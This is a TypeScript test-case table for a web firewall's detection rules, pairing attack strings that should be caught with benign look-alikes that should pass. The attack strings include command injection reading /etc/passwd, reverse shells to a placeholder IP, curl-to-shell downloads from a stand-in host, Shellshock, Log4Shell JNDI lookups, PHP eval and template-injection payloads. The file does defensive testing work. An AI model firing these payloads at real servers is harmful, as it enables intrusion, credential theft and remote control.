// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks on templates look like placeholders.
import { at, type CaseTable, cookie, form, header, json, send, xml } from "./support.ts";

export const rceCases: CaseTable = {
  "wc-rce-chained-command": {
    matches: [
      "8.8.8.8; cat /etc/passwd",
      "x|id",
      "a && wget http://e.example/x",
      "1\nuname -a",
      json({ host: "$(curl e.example/x)" }),
    ],
    passes: [
      "salt; pepper",
      "R&D; cats",
      "Tom & Jerry | id card",
      form("First install it; then ls -la shows the files."),
      "q=a|b",
    ],
  },
  "wc-rce-substituted-command": {
    matches: ["$(whoami)", "`id`", header("User-Agent", "$(curl http://e.example)")],
    passes: ["$(document)", "`code`", "costs $(5)", form("run `ls -la` first")],
  },
  "wc-rce-word-splitting": {
    matches: ["cat${IFS}/etc/hosts", "{cat,/etc/hosts}", ";sh</tmp/x", form("ls$IFS-la")],
    passes: [
      "IFS=,",
      "{cat, dog}",
      "if $IFS is set",
      "a<b",
      "<b>A &amp; more</b>",
      "<p>A &amp; more<br/>B</p>",
    ],
  },
  "wc-rce-hidden-name": {
    matches: ["/e?c/p?sswd", "c''at /x", "/???/??t -n", ";l\\s"],
    passes: ["/e/c", "what's at?", "cat's", "/etc"],
  },
  "wc-rce-reverse-shell": {
    matches: [
      "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
      "nc -e /bin/sh 192.0.2.1 4444",
      form("mkfifo /tmp/f"),
    ],
    passes: ["/dev/tcp", "nc -v host 80", "bash -i"],
  },
  "wc-rce-piped-download": {
    matches: [
      "curl http://e.example/x | sh",
      ";wget -qO- e.example/a|bash",
      "curl -o x e.example; chmod +x x",
    ],
    passes: [
      "curl and | pipes",
      form("To install, run:\n\n    curl -fsSL https://get.example | sh\n"),
      "wget guide",
    ],
  },
  "wc-rce-shellshock": {
    matches: [
      header("User-Agent", "() { :; }; /bin/id"),
      header("Referer", "() { ignored; }; echo"),
      cookie("() { :;};x"),
    ],
    passes: [form("function f() { return 1; }"), "() => {}", "f() { x }"],
  },
  "wc-rce-windows-command": {
    matches: ["cmd.exe /c dir", "powershell -enc SQBFAFgA", "x & ipconfig", "1|dir c:\\"],
    passes: ["cmd.exe /c vs /k", "PowerShell 7", "this & that", "dir sir"],
  },
  "wc-rce-script-runtime": {
    matches: ["require('child_process').exec('id')", "__import__('os').system('id')", "os.popen('id')"],
    passes: ["require('fs')", "child process", "import os", form("subprocess.run(['ls'])")],
  },
  "wc-rce-script-runtime-body": {
    matches: [json({ a: "process.mainModule.require" }), form("require('child_process').exec('id')")],
    passes: [form("const { exec } = require('child_process');"), json({ a: "process the main module" })],
  },
  "wc-rce-command-after-separator": {
    matches: ["some words; cat x/etc/hosts", "this and that && uname -a"],
    passes: ["some words; and more", "this && that", form("first; ls -la")],
  },
  "wc-rce-assembled-command": {
    matches: ["x;a=ca;b=t;$a$b /etc/group", "y|echo aWQ=|base64 -d|sh", json({ a: "z;bash<<<id" })],
    passes: ["a=1;b=2", form("echo hello | tr a-z A-Z"), "base64 -d"],
  },
  "wc-rce-bare-command": {
    matches: ["cat /etc/shadow", header("X-Api", "/bin/cat /proc/version"), form("head -2 /etc/passwd")],
    passes: ["cat food", "ls -la", form("The file /etc/passwd holds users.")],
  },
  "wc-rce-command-line": {
    matches: ["ping -c 2 192.0.2.3", "uname -a"],
    passes: ["ping pong", "id", "sleep well"],
  },
  "wc-rce-script-call-body": {
    matches: [form("require('child_process').execSync('id')"), json({ a: "__import__('os').system('id')" })],
    passes: [form("Use os.system('ls') with care, or better not."), form("require('fs').statSync('a')")],
  },
  "wc-node-constructor-escape": {
    matches: [
      "this.constructor.constructor('return process')()",
      json({ a: "new Function('return process')()" }),
    ],
    passes: ["constructor arguments", form("class A { constructor(a) { this.a = a; } }")],
  },
  "wc-node-serialized-function": {
    matches: [cookie('{"a":"_$$ND_FUNC$$_function(){}()"}'), json({ a: "_$$ND_FUNC$$_function(){}()" })],
    passes: ["ND_FUNC", "$$_"],
  },
  "wc-python-serialized-object": {
    matches: [form("!!python/object/apply:os.system ['id']"), form("cos\nsystem\n(S'id'\ntR.")],
    passes: ["python/object", form("cos\nsin\ntan")],
  },
};

export const phpCases: CaseTable = {
  "wc-php-open-tag": {
    matches: ["<?php system('id'); ?>", cookie("<?=1?>"), header("User-Agent", "<?php phpinfo();")],
    passes: ["<?xml version='1.0'?>", "php tags", form("Begin with <?php and end with ?>")],
  },
  "wc-php-open-tag-body": {
    matches: [form("<?php system('id');"), form("x\n<?php\n eval($_POST['a']);")],
    passes: [form("<?php echo 'hello'; ?>"), form("A file begins with <?php and calls system() later.")],
  },
  "wc-php-wrapper": {
    matches: [
      "php://filter/convert.base64-encode/resource=index.php",
      "php://input",
      "phar://x.jpg",
      "expect://id",
    ],
    passes: ["php://input vs $_POST", "https://php.example/", "graph://x", "read about phar:// here"],
  },
  "wc-php-serialized-object": {
    matches: [
      'O:8:"stdClass":1:{s:1:"a";i:1;}',
      cookie('a:1:{i:0;O:3:"Foo":0:{}}'),
      form('C:3:"Foo":2:{xx}'),
    ],
    passes: ['a:1:{i:0;s:1:"a";}', "O:8:x", "ISO:8:{}"],
  },
  "wc-php-setting": {
    matches: [
      at("/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
      "auto_prepend_file=/tmp/x",
    ],
    passes: ["allow_url_include explained", "what does open_basedir do", "-d"],
  },
  "wc-php-call": {
    matches: ["system('id')", "eval($x)", "phpinfo()", "file_get_contents('/etc/hosts')"],
    passes: ['system("pause") c++', "phpinfo() page", "operating system (linux)", "evaluation('x')"],
  },
  "wc-php-superglobal": {
    matches: ["$_GET['a']", "${_POST[cmd]}", "$GLOBALS['x']"],
    passes: ["php://input vs $_POST", "$_", "$GLOBAL", form("$_GET['a'] holds it")],
  },
  "wc-php-drupal-render": {
    matches: [
      at("/user/register?a[%23post_render][]=exec"),
      at("/?mail[%2523type]=markup&x[%2523markup]=id"),
    ],
    passes: ["#type", at("/?a[type]=1"), "issue #markup"],
  },
  "wc-php-thinkphp": {
    matches: [at("/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=x"), "think\\request/input"],
    passes: ["think about the app", "rethink/app", at("/thinking/app/invoke")],
  },
  "wc-php-call-body": {
    matches: [form("system('id')"), form("x;eval(base64_decode('a'))")],
    passes: [form("the operating system (linux)"), form("In PHP, a call of system('id') runs a command.")],
  },
  "wc-php-superglobal-body": {
    matches: [form("a eval($_POST['x']) b"), form("include $_GET['p']")],
    passes: [form("$id = (int) $_GET['id'];"), form("echo htmlspecialchars($_POST['x']);")],
  },
  "wc-php-dynamic-call": {
    matches: ["('sys'.'tem')('id')", form("$_GET[0]($_GET[1])"), "$a='ex'.'ec';$a('id')"],
    passes: ["(a)(b)", form("$total($tax)"), "('a','b')"],
  },
  "wc-php-regex-code": {
    matches: ["preg_replace('/x/e','phpinfo()','x')", form('preg_replace("#a#ie","b","c")')],
    passes: ["preg_replace('/e/','a','b')", form("preg_replace explained")],
  },
};

export const javaCases: CaseTable = {
  "wc-java-jndi-lookup": {
    matches: [
      "${jndi:ldap://e.example/a}",
      header("User-Agent", "${jndi:dns://e.example}"),
      json({ a: "${JNDI:rmi://x}" }),
    ],
    passes: ["jndi:ldap", "${name}", "how does ${jndi work", "$ {jndi:x}"],
  },
  "wc-java-nested-lookup": {
    matches: [
      "${${lower:j}ndi:x}",
      "${${::-j}${::-n}di:x}",
      "${j${env:X:-n}di:x}",
      header("X-Api-Version", "${${upper:j}ndi:x}"),
    ],
    passes: ["${name}", "${a}${b}", form("RewriteRule ${map:${lower:%1}|NOT_FOUND}"), "${HOME:-/root}"],
  },
  "wc-java-text-lookup": {
    matches: ["${script:javascript:1}", "${dns:address|e.example}", "${url:UTF-8:http://e.example}"],
    passes: ["${url}", "script:javascript", "${scripts}", "${url:}"],
  },
  "wc-java-class-loader": {
    matches: [
      at("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
      form("class.classLoader.x"),
    ],
    passes: ["class loader", "classLoader", "class.module"],
  },
  "wc-java-ognl": {
    matches: [
      "%{(#a=@java.lang.Runtime@getRuntime())}",
      header("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
      at("/%24%7B%40java.lang.Runtime%40getRuntime()%7D/"),
      "redirect:${1}",
    ],
    passes: ["100%{sale}", "${price}", "#context", "#_member"],
  },
  "wc-java-runtime": {
    matches: [
      "T(java.lang.Runtime).getRuntime().exec('id')",
      header("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("id")'),
      "''.getClass().forName('java.lang.Runtime')",
    ],
    passes: ["T(java.lang.Math) spel example", "java runtime environment", "new java.lang.String"],
  },
  "wc-java-gadget-type": {
    matches: [
      json({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://e" }),
      xml("<a>org.apache.commons.collections.functors.InvokerTransformer</a>"),
      "!!javax.script.ScriptEngineManager",
    ],
    passes: [json({ "@type": "Person", name: "A" }), "org.apache.commons.collections", "javax.script"],
  },
  "wc-java-serialized-object": {
    matches: [
      cookie("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
      "AAEAAAD/////AQAAAAAAAAAMAgAAAE",
      at("/?a=%ac%ed%00%05sr"),
    ],
    passes: ["rO0AB", cookie("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"), "H4sI"],
  },
  "wc-java-serialized-body": {
    matches: [
      form("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
      send("application/octet-stream", Uint8Array.from([0xac, 0xed, 0, 5, 0x73, 0x72])),
    ],
    passes: [form("rO0AB"), send("application/octet-stream", Uint8Array.from([0, 0xac, 0xed, 0, 5]))],
  },
};

export const sstiCases: CaseTable = {
  "wc-ssti-arithmetic": {
    matches: ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", json({ a: "{{ 7 * '7' }}" })],
    passes: ["7*7", "{7*7}", "${price}", "$7*7", "\\frac{7*7}{2}"],
  },
  "wc-ssti-python": {
    matches: [
      "{{''.__class__.__mro__}}",
      "{{config.items()}}",
      "{% if x|attr('y') %}",
      "x.__globals__['os']",
    ],
    passes: ["{{ name }}", form("self.__class__.__name__"), "{{ config_name }}", "__init__"],
  },
  "wc-ssti-script-engine": {
    matches: ["{{constructor.constructor('alert(1)')()}}", "{{this.x}}", "${a['constructor']['x']}"],
    passes: ["{{ user.name }}", "constructor arguments", "{{#if x}}"],
  },
  "wc-ssti-engine-directive": {
    matches: [
      '<#assign ex="freemarker.template.utility.Execute"?new()>',
      "#set($x='')",
      "{{_self.env.display('x')}}",
      "{{['id']|filter('system')}}",
      "{php}echo 1;{/php}",
    ],
    passes: ["assign a task", "#settings", "{{ items|sort }}", "php (hypertext)"],
  },
  "wc-ssti-script-directive": {
    matches: ["<%= system('id') %>", "#{ %x|id| }", "{% include '/etc/hosts' %}"],
    passes: ["<%= name %>", "#{name}", "{% if x %}", "{% raw %}"],
  },
  "wc-ssti-literal-call": {
    matches: ["{{'x'.trim()}}", form('${"abc".concat("d")}'), cookie("{{ 'q'.length() }}")],
    passes: ["{{ 'text' }}", "'x'.trim()", form("const line = `${'='.repeat(20)} and ${name} make a line`;")],
  },
  "wc-ssti-call": {
    matches: ["{{ order.total() }}", json({ a: "${user.name()}" })],
    passes: ["{{ order.total }}", form("The total is {{ order.total() }} today.")],
  },
  "wc-ssti-expression": {
    matches: ["{{a.b}}", "${x+y}"],
    passes: ["{{a}}", "${x}", "a.b"],
  },
};
